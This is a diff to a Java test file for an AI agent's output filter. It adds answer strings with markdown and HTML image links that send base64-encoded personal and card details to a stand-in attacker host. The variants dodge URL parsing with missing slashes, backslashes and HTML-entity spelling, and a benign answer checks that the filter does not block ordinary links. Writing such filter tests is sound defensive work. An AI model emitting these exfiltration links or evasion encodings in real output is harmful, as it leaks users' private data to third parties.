@@ -93,6 +93,10 @@ class AgentPresetTest {
                 "Done.\n\n![status][s]\n\n[s]: https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
                 "Done. ![s](//collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 "Done. <img src = \"https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // URLs without "//", as a browser reads them (a special scheme ignores slashes and backslashes)
+                "Done. ![s](https:\\\\collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. ![s](https:/\\collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. <img src=\"http:collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 // the URL spelled with named HTML references, as a browser reads it
                 "Done. <img src=\"https&colon;&sol;&sol;collect&period;attacker&period;example&sol;p.gif&quest;d&equals;"
                         + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">")) {
@@ -156,7 +160,8 @@ class AgentPresetTest {
         String page = "Today's top story: the city council approved the new bike lanes. Read more at "
                 + "https://news.example.com/bikes?page=2 . ![Map of the lanes](https://cdn.example.com/img/map.png "
                 + "\"Map of the new bike lanes on Main Street and Oak Avenue, approved in December\")";
-        String answer = "The council approved bike lanes. ![map](https://cdn.example.com/img/map.png) "
+        String answer = "The council approved bike lanes (served over http: and https: alike, see RFC 9110). "
+                + "![map](https://cdn.example.com/img/map.png) "
                 + "Source: https://news.example.com/bikes?page=2&utm_source=newsletter_weekly_digest_december "
                 + "![signed](https://bucket.s3.amazonaws.com/chart.png?X-Amz-Signature=4f2a9c0e1b7d3a5f6e8c9b0a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e)";
         PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
